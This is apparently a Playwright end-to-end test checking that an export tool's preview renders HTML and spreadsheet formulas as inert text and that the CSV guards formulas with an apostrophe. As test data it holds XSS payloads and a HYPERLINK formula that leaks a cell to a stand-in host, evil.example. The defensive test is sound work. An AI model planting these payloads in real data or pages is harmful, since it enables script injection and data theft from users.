/**
 * Data is not markup and not a formula: a record carrying HTML and a spreadsheet formula shows as plain
 * text in the preview (nothing runs, no element is made from it), is marked as guarded, and the saved CSV
 * neutralizes the formula with a leading apostrophe.
 */
import { expectedCsv } from '../helpers/expected-output.ts';
import { expect, screen, test } from './fixtures.ts';
import { addOmniqConnection, download, finishedExport, go, jobDetail, openDesk } from './helpers.ts';

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(2)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const COUNT = 30;

// The hostile values sit in the first columns, so they are on screen without scrolling sideways.
test.use({
  omniqOptions: {
    counts: { communications: COUNT },
    extraRecords: {
      communications: [
        {
          _id: '6774ffffffffffffffffffff',
          botModule: FORMULA,
          campaign: IMG,
          client: SCRIPT,
          createdAt: '2025-12-31T23:59:59.999Z',
        },
      ],
    },
  },
});

test('HTML and formulas in cells show as text and are guarded in CSV', async ({ page, desk }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const records = desk.omniq.records('communications');
  expect(records).toHaveLength(COUNT + 1);
  await finishedExport(desk, (await addOmniqConnection(desk)).name);
  await openDesk(page, desk);
  await go(page, 'Exports');
  await page.getByRole('button', { name: 'Open OmniQ communications 2025-01-01–2025-12-31' }).click();
  await expect(jobDetail(page, 'ready')).toBeVisible();

  const grid = page.getByTestId('preview-grid');
  await page.getByRole('button', { name: 'Go to last row' }).click();
  const last = grid.locator(`[role="row"][data-row="${COUNT + 1}"]`);
  const cellOf = async (column: string) => {
    const col = await grid.locator(`[data-column="${column}"]`).getAttribute('aria-colindex');
    return last.locator(`[role="gridcell"][aria-colindex="${col}"]`);
  };
  await expect(await cellOf('campaign')).toHaveText(IMG);
  await expect(await cellOf('client')).toHaveText(SCRIPT);
  const formula = await cellOf('botModule');
  await expect(formula).toHaveText(FORMULA);
  await expect(formula).toHaveAttribute('data-guarded', 'true');
  await expect(formula).toHaveAttribute('title', 'will be written with a leading apostrophe in CSV');
  await expect(await cellOf('campaign')).not.toHaveAttribute('data-guarded', 'true');
  await screen(page, 'job-detail-hostile');

  // Nothing was made out of the text: no element, no script run, no dialog.
  await expect(grid.locator('img, script')).toHaveCount(0);
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(dialogs).toEqual([]);

  const csv = await download(page, 'Download CSV');
  expect(csv.text).toBe(expectedCsv(records));
  const hostileLine = csv.text.split('\r\n').find((l) => l.startsWith('6774ffffffffffffffffffff,'));
  expect(hostileLine).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  expect(hostileLine).toContain(`,${IMG},${SCRIPT},`);
  expect(dialogs).toEqual([]);
});
